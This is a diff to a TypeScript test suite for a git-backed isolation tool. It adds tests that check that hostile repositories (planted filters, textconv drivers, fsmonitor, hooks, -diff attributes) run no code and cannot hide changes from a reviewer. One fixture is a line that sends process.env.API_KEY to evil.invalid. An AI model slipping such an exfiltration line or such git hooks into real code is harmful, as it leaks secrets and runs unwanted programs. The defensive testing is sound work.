@@ -42,6 +42,19 @@ async function git(cwd: string, ...args: string[]): Promise<string> {
   return testGit(cwd, args, globalConfig);
 }
 
+/** `git worktree list` of the shadow repository the git backend keeps under its state dir. */
+async function shadowWorktrees(stateDir: string): Promise<string> {
+  const shadows = fs.readdirSync(path.join(stateDir, 'repositories'));
+  assert.equal(shadows.length, 1, `one shadow repository: ${shadows.join(', ')}`);
+  return git(
+    stateDir,
+    `--git-dir=${path.join(stateDir, 'repositories', shadows[0] ?? '')}`,
+    'worktree',
+    'list',
+    '--porcelain',
+  );
+}
+
 function write(root: string, relative: string, content: string | Buffer): void {
   const file = path.join(root, relative);
   fs.mkdirSync(path.dirname(file), { recursive: true });
@@ -427,11 +440,15 @@ describe('Isolation', function () {
         writerEdits(copy.dir);
         const root = backend === 'git' ? path.join(base.stateDir, 'worktrees', 'writer') : copy.dir;
         assert.ok(fs.existsSync(root));
-        if (backend === 'git') assert.ok((await git(ws, 'worktree', 'list', '--porcelain')).includes(root));
+        if (backend === 'git') {
+          assert.ok((await shadowWorktrees(base.stateDir)).includes(root));
+          // The user's repository never hears of it: the worktree belongs to the shadow repository.
+          assert.ok(!(await git(ws, 'worktree', 'list', '--porcelain')).includes(root));
+        }
         await copy.dispose();
         await copy.dispose();
         assert.ok(!fs.existsSync(root));
-        if (backend === 'git') assert.ok(!(await git(ws, 'worktree', 'list', '--porcelain')).includes(root));
+        if (backend === 'git') assert.ok(!(await shadowWorktrees(base.stateDir)).includes(root));
       });
 
       it('cleanupOrphans removes what a crashed run left and keeps the live copies', async () => {
@@ -444,7 +461,7 @@ describe('Isolation', function () {
         assert.ok(!fs.existsSync(crashedRoot));
         assert.ok(fs.existsSync(live.dir));
         if (backend === 'git') {
-          const listed = await git(ws, 'worktree', 'list', '--porcelain');
+          const listed = await shadowWorktrees(base.stateDir);
           assert.ok(!listed.includes(crashedRoot), listed);
           assert.ok(listed.includes(path.join(base.stateDir, 'worktrees', 'run-1-writer')), listed);
         }
@@ -525,6 +542,22 @@ describe('Isolation', function () {
       }
     });
 
+    it('takes six bases of one repository at once, sharing one shadow repository', async () => {
+      const ws = newDir('twice');
+      await git(ws, 'init', '-q');
+      write(ws, 'a.txt', 'a\n');
+      const bases = await Promise.all(Array.from({ length: 6 }, () => Isolation.snapshotBase(ws)));
+      try {
+        const [first, second] = bases;
+        assert.ok(first && second);
+        assert.equal(fs.readdirSync(path.join(first.stateDir, 'repositories')).length, 1);
+        const copies = await Promise.all([first.createCopy('one'), second.createCopy('two')]);
+        for (const copy of copies) assert.equal(read(copy.dir, 'a.txt'), 'a\n');
+      } finally {
+        for (const base of bases) await base.dispose();
+      }
+    });
+
     it('works in a repository without any commit yet', async () => {
       const ws = newDir('fresh');
       await git(ws, 'init', '-q');
@@ -555,6 +588,241 @@ describe('Isolation', function () {
         Isolation.snapshotBase(ws, { backend: 'git', label: 'forced' }),
         refusedWith('GIT_UNAVAILABLE'),
       );
+    });
+  });
+
+  describe('hostile repositories (issue 15)', () => {
+    const APP = numberedLines(1, 6);
+    const HIDDEN = 'fetch("https://evil.invalid/?k=" + process.env.API_KEY); // hidden\n';
+    let marks = '';
+
+    /**
+     * A program git would run for the repository: it leaves `marks/<its argument>` behind, then passes its
+     * input (or the file textconv names) through, so git carries on as if it were a harmless filter.
+     */
+    function plantProgram(): string {
+      marks = newDir('marks');
+      const script = path.join(newDir('programs'), 'evil.sh');
+      fs.writeFileSync(
+        script,
+        `#!/bin/sh\ntouch '${marks}'/"$1"\nif [ -f "$2" ]; then cat "$2"; else cat; fi\n`,
+        { mode: 0o755 },
+      );
+      return script;
+    }
+
+    function marksLeft(): string[] {
+      return fs.readdirSync(marks).sort();
+    }
+
+    /** A committed repository with src/app.ts and the given .gitattributes. */
+    async function repositoryWith(attributes: string): Promise<string> {
+      const ws = newDir('hostile');
+      await git(ws, 'init', '-q');
+      write(ws, 'src/app.ts', APP);
+      write(ws, '.gitattributes', attributes);
+      await git(ws, 'add', '-A');
+      await git(ws, 'commit', '-q', '-m', 'initial');
+      return ws;
+    }
+
+    /** The one file's hunks in a git patch: what a reviewer reads of it. */
+    function hunksOf(patch: string, file: string): string {
+      const start = patch.indexOf(`+++ b/${file}\n`);
+      assert.ok(start >= 0, `the patch shows ${file} as text:\n${patch}`);
+      const body = patch.slice(start + `+++ b/${file}\n`.length);
+      const next = body.indexOf('\ndiff --git ');
+      return next === -1 ? body : body.slice(0, next + 1);
+    }
+
+    const variants: [string, string, [string, string][]][] = [
+      ['-diff', '* -diff\n', []],
+      ['binary', '* binary\n', []],
+      [
+        'diff=evil (a driver with a textconv, an external command and binary=true)',
+        '* diff=evil\n',
+        [
+          ['diff.evil.textconv', 'textconv'],
+          ['diff.evil.command', 'command'],
+          ['diff.evil.binary', 'true'],
+        ],
+      ],
+    ];
+    for (const [name, attributes, config] of variants) {
+      it(`shows the reviewer the text of a change the repository marks ${name}, and applies what it showed`, async () => {
+        const program = plantProgram();
+        const ws = await repositoryWith(attributes);
+        for (const [key, value] of config) {
+          await git(ws, 'config', key, value === 'true' ? value : `${program} ${value}`);
+        }
+        const base = await Isolation.snapshotBase(ws);
+        try {
+          const copy = await base.createCopy('writer');
+          const edited = APP.replace('line 3\n', `line 3\n${HIDDEN}`);
+          write(copy.dir, 'src/app.ts', edited);
+          const change = await copy.captureChange();
+          assert.ok(!change.patch.includes('GIT binary patch'), change.patch);
+          assert.deepEqual(change.files, [
+            { path: 'src/app.ts', change: 'modified', insertions: 1, deletions: 0, binary: false },
+          ]);
+          const shown = hunksOf(change.patch, 'src/app.ts');
+          assert.ok(shown.includes(`+${HIDDEN}`), shown);
+          await applyChange(ws, change, base);
+          // What reached the workspace is exactly the old file with the hunks the reviewer read.
+          assert.equal(read(ws, 'src/app.ts'), applyHunks(APP, shown));
+          assert.equal(read(ws, 'src/app.ts'), edited);
+          assert.deepEqual(marksLeft(), []);
+        } finally {
+          await base.dispose();
+        }
+      });
+    }
+
+    it('shows and applies the bytes as they are when attributes ask for an end-of-line conversion', async () => {
+      const ws = await repositoryWith('*.ts text eol=crlf\n');
+      const base = await Isolation.snapshotBase(ws);
+      try {
+        const copy = await base.createCopy('writer');
+        // The copy holds the blob as stored, with no CRLF added: the bytes the patch is made of.
+        assert.equal(read(copy.dir, 'src/app.ts'), APP);
+        const edited = `${APP}${HIDDEN}`;
+        write(copy.dir, 'src/app.ts', edited);
+        const change = await copy.captureChange();
+        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
+        await applyChange(ws, change, base);
+        assert.deepEqual(fs.readFileSync(path.join(ws, 'src/app.ts')), Buffer.from(edited));
+      } finally {
+        await base.dispose();
+      }
+    });
+
+    it('refuses, changing nothing, a change to a file whose checkout git converted (CRLF on disk, LF stored)', async () => {
+      const ws = await repositoryWith('*.ts text eol=crlf\n');
+      // What git's own checkout with these attributes leaves on disk.
+      fs.rmSync(path.join(ws, 'src/app.ts'));
+      await git(ws, 'checkout', '--', 'src/app.ts');
+      const onDisk = fs.readFileSync(path.join(ws, 'src/app.ts'));
+      assert.ok(onDisk.includes('\r\n'));
+      // Older than the index, as after any checkout but the last second's: git trusts its stat data.
+      const past = Date.now() / 1000 - 100;
+      fs.utimesSync(path.join(ws, 'src/app.ts'), past, past);
+      await git(ws, 'update-index', '--refresh');
+      const base = await Isolation.snapshotBase(ws);
+      try {
+        const copy = await base.createCopy('writer');
+        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
+        const change = await copy.captureChange();
+        // Shown and applied as stored bytes, so it cannot match the converted file: refused, not rewritten.
+        await assert.rejects(applyChange(ws, change, base), refusedWith('CONFLICT'));
+        assert.deepEqual(fs.readFileSync(path.join(ws, 'src/app.ts')), onDisk);
+      } finally {
+        await base.dispose();
+      }
+    });
+
+    it('runs no program the repository config, attributes or hooks name, through isolate, write, capture and apply', async () => {
+      const program = plantProgram();
+      const ws = await repositoryWith('* filter=evil diff=evil\n');
+      write(ws, 'untracked.txt', 'new\n');
+      write(ws, 'src/app.ts', `${APP}uncommitted\n`);
+      const hookNames = [
+        'post-checkout',
+        'pre-commit',
+        'post-commit',
+        'post-index-change',
+        'reference-transaction',
+        'pre-auto-gc',
+        'post-rewrite',
+      ];
+      const hooksDir = newDir('hooks');
+      for (const hook of hookNames) {
+        for (const [dir, where] of [
+          [path.join(ws, '.git', 'hooks'), 'git-dir'],
+          [hooksDir, 'hooks-path'],
+        ] as const) {
+          write(dir, hook, `#!/bin/sh\ntouch '${marks}/hook-${hook}-${where}'\n`);
+          fs.chmodSync(path.join(dir, hook), 0o755);
+        }
+      }
+      const attributesFile = path.join(newDir('attributes'), 'attributes');
+      write(ws, '.git/info/attributes', '* filter=evil diff=evil\n');
+      fs.writeFileSync(attributesFile, '* filter=evil diff=evil\n');
+      for (const [key, value] of [
+        ['filter.evil.clean', `${program} clean`],
+        ['filter.evil.smudge', `${program} smudge`],
+        ['filter.evil.required', 'true'],
+        ['diff.evil.textconv', `${program} textconv`],
+        ['diff.evil.command', `${program} diff-command`],
+        ['diff.external', `${program} diff-external`],
+        ['core.fsmonitor', `${program} fsmonitor`],
+        ['core.hooksPath', hooksDir],
+        ['core.attributesFile', attributesFile],
+      ]) {
+        await git(ws, 'config', key as string, value as string);
+      }
+      const base = await Isolation.snapshotBase(ws);
+      try {
+        const copy = await base.createCopy('writer');
+        assert.equal(read(copy.dir, 'src/app.ts'), `${APP}uncommitted\n`);
+        const edited = `${APP}uncommitted\n${HIDDEN}`;
+        write(copy.dir, 'src/app.ts', edited);
+        write(copy.dir, 'added.txt', 'added\n');
+        const change = await copy.captureChange();
+        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
+        await applyChange(ws, change, base);
+        assert.equal(read(ws, 'src/app.ts'), edited);
+        assert.equal(read(ws, 'added.txt'), 'added\n');
+        assert.deepEqual(marksLeft(), []);
+      } finally {
+        await base.dispose();
+      }
+      // The planted programs are live: plain git in the same repository runs them.
+      await git(ws, 'add', 'added.txt');
+      await git(ws, 'diff', '--cached', '--textconv', '--no-ext-diff');
+      assert.ok(marksLeft().includes('clean'), marksLeft().join(', '));
+      assert.ok(marksLeft().includes('textconv'), marksLeft().join(', '));
+    });
+
+    it("runs no program of a git dir a writer points its copy's .git file at", async () => {
+      const program = plantProgram();
+      const ws = await repositoryWith('');
+      const plantedRepo = newDir('planted');
+      await git(plantedRepo, 'init', '-q');
+      const planted = path.join(plantedRepo, '.git');
+      await git(plantedRepo, 'config', 'filter.evil.clean', `${program} clean`);
+      await git(plantedRepo, 'config', 'core.fsmonitor', `${program} fsmonitor`);
+      write(planted, 'info/attributes', '* filter=evil\n');
+      const base = await Isolation.snapshotBase(ws);
+      try {
+        const copy = await base.createCopy('writer');
+        fs.writeFileSync(path.join(copy.dir, '.git'), `gitdir: ${planted}\n`);
+        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
+        const change = await copy.captureChange();
+        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`), change.patch);
+        assert.deepEqual(marksLeft(), []);
+        await copy.dispose();
+        assert.ok(!fs.existsSync(copy.dir));
+      } finally {
+        await base.dispose();
+      }
+    });
+
+    it('shows the text of a change whose writer adds a .gitattributes that marks everything -diff', async () => {
+      const ws = await repositoryWith('');
+      const base = await Isolation.snapshotBase(ws);
+      try {
+        const copy = await base.createCopy('writer');
+        write(copy.dir, '.gitattributes', '* -diff\n');
+        write(copy.dir, 'src/app.ts', `${APP}${HIDDEN}`);
+        const change = await copy.captureChange();
+        assert.ok(!change.patch.includes('GIT binary patch'), change.patch);
+        assert.ok(hunksOf(change.patch, '.gitattributes').includes('+* -diff\n'));
+        assert.ok(hunksOf(change.patch, 'src/app.ts').includes(`+${HIDDEN}`));
+        await applyChange(ws, change, base);
+        assert.equal(read(ws, 'src/app.ts'), `${APP}${HIDDEN}`);
+      } finally {
+        await base.dispose();
+      }
     });
   });
 
